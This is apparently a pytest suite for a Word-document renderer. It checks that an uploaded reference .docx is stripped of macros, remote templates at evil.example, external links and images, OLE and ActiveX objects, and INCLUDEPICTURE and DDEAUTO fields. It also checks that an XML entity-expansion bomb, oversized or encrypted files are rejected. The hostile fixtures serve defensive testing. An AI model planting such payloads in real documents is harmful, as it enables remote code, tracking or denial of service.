"""A reference document of a stranger gives its look, and nothing that runs or calls outside; or one sentence."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from functools import cache
from typing import TYPE_CHECKING

import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE

from egov_tracker.errors import EgovError
from egov_tracker.render.word import reference
from egov_tracker.render.word.document import render_docx
from egov_tracker.render.word.reference import open_reference
from egov_tracker.views.page import Lang, Page, Section

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

PAGE = Page(Lang.VI, "Trang", (), (Section("Mục", ()),))
DAY = date(2016, 6, 30)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = 'TargetMode="External"'
RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
BOMB = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"


@cache
def parts() -> dict[str, bytes]:
    """The parts of a plain document with a header."""
    document, out = Document(), io.BytesIO()
    document.sections[0].header.paragraphs[0].text = "Bộ Tư pháp"
    document.save(out)
    with zipfile.ZipFile(out) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(changed: Mapping[str, bytes | None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in ({**parts(), **changed}).items():
            if content is not None:
                package.writestr(name, content)
    return out.getvalue()


def related(where: str, kind: str, target: str, more: str = "") -> dict[str, bytes]:
    """One more relation in a part of relations."""
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" {more}/>'.encode()
    root = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    before = parts().get(where, root + b"</Relationships>")
    return {where: before.replace(b"</Relationships>", one + b"</Relationships>")}


def in_settings(text: str) -> dict[str, bytes]:
    start = parts()["word/settings.xml"]
    at = start.index(b">", start.index(b"<w:settings")) + 1
    return {"word/settings.xml": start[:at] + text.encode() + start[at:]}


def in_header(text: str) -> dict[str, bytes]:
    return {"word/header1.xml": parts()["word/header1.xml"].replace(b"</w:hdr>", text.encode() + b"</w:hdr>")}


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({**related(RELS, "vbaProject", "vbaProject.bin"), "word/vbaProject.bin": b"macro"}, "macros"),
        (
            related(SETTINGS, "attachedTemplate", "https://evil.example/t.dotm", EXTERNAL)
            | in_settings(f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId99"/>'),
            "a template",
        ),
        (
            related("word/_rels/header1.xml.rels", "image", "https://evil.example/x.png", EXTERNAL),
            "links to the outside",
        ),
        (related(RELS, "hyperlink", "https://evil.example/", EXTERNAL), "links to the outside"),
        ({**related(RELS, "oleObject", "embeddings/o.bin"), "word/embeddings/o.bin": b"evil"}, "embedded objects"),
        ({**related(RELS, "aFChunk", "chunk.html"), "word/chunk.html": b"evil"}, "embedded documents"),
        ({**related(RELS, "control", "activeX/a.bin"), "word/activeX/a.bin": b"evil"}, "controls"),
        (
            in_header(
                '<w:p><w:r><w:instrText> INCLUDEPICTURE "https://evil.example/x.png" \\d </w:instrText></w:r></w:p>'
            ),
            "fields that fetch",
        ),
        (in_header('<w:p><w:fldSimple w:instr="DDEAUTO evil"/></w:p>'), "fields that fetch"),
    ],
)
def test_what_runs_or_calls_outside_is_left_out_and_said(changed: Mapping[str, bytes], said: str) -> None:
    opened = open_reference(packed(changed), "ours.docx")
    assert opened.note == f"ours.docx: left out of the reference document: {said}"
    with zipfile.ZipFile(io.BytesIO(render_docx(PAGE, DAY, opened))) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    assert b"evil" not in everything
    assert b"vbaProject" not in everything
    assert b"External" not in everything
    assert "Bộ Tư pháp".encode() in everything


def test_of_a_link_to_the_outside_the_text_stays_and_of_a_picture_nothing() -> None:
    rels = "word/_rels/header1.xml.rels"
    link = f'<w:hyperlink xmlns:r="{OFFICE}" r:id="rId99"><w:r><w:t>Trang chủ</w:t></w:r></w:hyperlink>'
    picture = f'<w:r><w:object xmlns:r="{OFFICE}" r:id="rId99"><w:t>Ảnh</w:t></w:object></w:r>'
    changed = related(rels, "hyperlink", "https://evil.example/", EXTERNAL) | in_header(f"<w:p>{link}{picture}</w:p>")
    made = Document(io.BytesIO(render_docx(PAGE, DAY, open_reference(packed(changed), "ours.docx"))))
    header = made.sections[0].header._element.xml
    assert ("Trang chủ" in header, "Ảnh" in header, "rId99" in header) == (True, False, False)


def test_a_plain_reference_document_loses_nothing_that_has_to_be_said() -> None:
    assert open_reference(packed({}), "ours.docx").note is None


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ],
)
def test_a_template_of_word_and_a_document_with_macros_serve_as_plain_ones(kind: str) -> None:
    types = parts()["[Content_Types].xml"].replace(reference.MAIN.encode(), kind.encode())
    opened = open_reference(packed({"[Content_Types].xml": types}), "ours.dotm")
    assert kind.encode() not in render_docx(PAGE, DAY, opened)


def styled(name: str, kind: WD_STYLE_TYPE) -> bytes:
    document, out = Document(), io.BytesIO()
    document.styles[name].delete()
    document.styles.add_style(name, kind)
    document.save(out)
    return out.getvalue()


def broken(name: str, old: bytes, new: bytes) -> dict[str, bytes]:
    assert old in parts()[name]
    return {name: parts()[name].replace(old, new)}


XML_PARTS = sorted(name for name in parts() if reference._is_xml(name))
NASTY = (
    b"",
    b"\xff\xfe\x00",
    b"<a/>",
    b"<a>" * 1000 + b"</a>" * 1000,
    BOMB.encode() + b"<a>&a9;</a>",
)
NEEDED = {"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"}


def sentence_on(raw: bytes) -> str | None:
    """What is said of a reference document, in one sentence with its name; nothing where it serves."""
    try:
        render_docx(PAGE, DAY, open_reference(raw, "ours.docx"))
    except EgovError as wrong:
        said = str(wrong)
    else:
        return None
    assert said.startswith("ours.docx: the reference document ")
    assert "\n" not in said
    return said


@pytest.mark.parametrize("nasty", range(len(NASTY)))
@pytest.mark.parametrize("name", XML_PARTS)
def test_a_part_that_is_not_what_it_says_is_one_sentence_or_does_no_harm(name: str, nasty: int) -> None:
    said = sentence_on(packed({name: NASTY[nasty]}))
    if name in NEEDED and NASTY[nasty] != b"<a/>":
        assert said


@pytest.mark.parametrize("name", XML_PARTS)
def test_a_part_that_is_missing_is_one_sentence_or_does_no_harm(name: str) -> None:
    sentence_on(packed({name: None}))


NO_WORD, UNUSABLE = "is no Word document (.docx)", "cannot be used"
TOO_LARGE = f"{UNUSABLE}: unpacked it is too large: 25,165,824 bytes are the most, 8,388,608 of them XML"


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda: b"", NO_WORD),
        (lambda: packed({"_rels/.rels": None}), NO_WORD),
        (lambda: packed({"[Content_Types].xml": None}), NO_WORD),
        (lambda: b"\xd0\xcf\x11\xe0" + bytes(999), NO_WORD),
        (lambda: packed({})[:3000], NO_WORD),
        (lambda: packed({"word/x.xml": bytes(9 * 1024 * 1024)}), TOO_LARGE),
        (lambda: packed({"word/media/x.png": bytes(99 * 1024 * 1024)}), TOO_LARGE),
        (lambda: packed({f"x{n}": b"" for n in range(2000)}), f"{UNUSABLE}: it has too many parts, or two of one name"),
        (lambda: packed({"_rels/.rels": b"<a/>"}), f"{UNUSABLE}: it holds no document"),
        (lambda: packed({"word/styles.xml": BOMB.encode() + parts()["word/styles.xml"].split(b"?>", 1)[1]}),
            f"{UNUSABLE}: word/styles.xml declares a document type"),
        (lambda: styled("Title", WD_STYLE_TYPE.CHARACTER), f"{UNUSABLE}: its style 'Title' is no paragraph style"),
        (lambda: styled("Heading 1", WD_STYLE_TYPE.TABLE), f"{UNUSABLE}: its style 'Heading 1' is no paragraph style"),
        (
            lambda: packed({"word/styles.xml": parts()["word/styles.xml"].replace(
                b"</w:styles>", b"".join(
                    f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/></w:style>'.encode()
                    for n in range(2000)) + b"</w:styles>")}),
            f"{UNUSABLE}: it has more than 1,000 styles",
        ),
    ],
)  # fmt: skip
def test_any_other_reference_document_is_one_sentence_with_the_name_of_the_file(
    make: Callable[[], bytes], reason: str
) -> None:
    with pytest.raises(EgovError) as wrong:
        render_docx(PAGE, DAY, open_reference(make(), "ours.docx"))
    assert str(wrong.value) == f"ours.docx: the reference document {reason}"


def test_of_what_is_no_xml_the_parser_says_why() -> None:
    made = packed(broken("word/document.xml", b"<w:sectPr", b"<w:sect"))
    said = sentence_on(made) or ""
    assert said.startswith("ours.docx: the reference document cannot be used: Opening and ending tag mismatch: ")


def test_an_encrypted_document_is_said_to_be_so() -> None:
    raw = bytearray(packed({}))
    start = raw.index(b"PK\x01\x02")
    raw[start + 8] |= 1
    with pytest.raises(EgovError, match="it is encrypted"):
        open_reference(bytes(raw), "ours.docx")


def test_a_title_is_as_long_as_it_likes() -> None:
    made = Document(io.BytesIO(render_docx(PAGE._replace(title="Trang " * 200), DAY)))
    assert len(made.core_properties.title) == 255
    assert made.paragraphs[0].text == "Trang " * 200
